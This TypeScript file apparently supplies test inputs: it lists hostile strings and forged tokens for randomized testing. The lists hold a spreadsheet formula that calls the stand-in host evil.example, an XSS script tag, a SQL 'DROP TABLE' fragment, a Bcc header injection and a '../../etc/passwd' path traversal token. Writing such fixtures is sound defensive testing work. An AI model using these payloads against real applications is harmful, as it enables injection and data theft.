import type { Random } from './random';

/** What some people type, by mistake or on purpose. */
const hostileTexts: readonly string[] = [
  '=IMPORTXML("http://evil.example","//a")', "'=1+1", '+8613900000000', '@SUM(A1)', '-1', '007', '1/2', '2026-01-02', 'TRUE', '5%',
  '<script>alert(1)</script>', '</script><b>', '{{constructor}}', '\u202eright to left', '😀🔥', '一\n二\n三', '\t表\t格', 'a\u0000b', '"; DROP TABLE', '  前后空格  ', '\r\nBcc: all@customers.example', 'null', 'undefined', '[object Object]', '中'.repeat(700),
];

export const hostileText = (random: Random): string => random.pick(hostileTexts);

const forgedTokens: readonly string[] = ['', 'x', 'WyJkZXNrIiwiIiwiU1QtMDA1IiwxLDBd.AAAA', '../../etc/passwd', 'a.b.c', '%00', 'W10.'];
export const forgedToken = (random: Random): string => random.pick(forgedTokens);
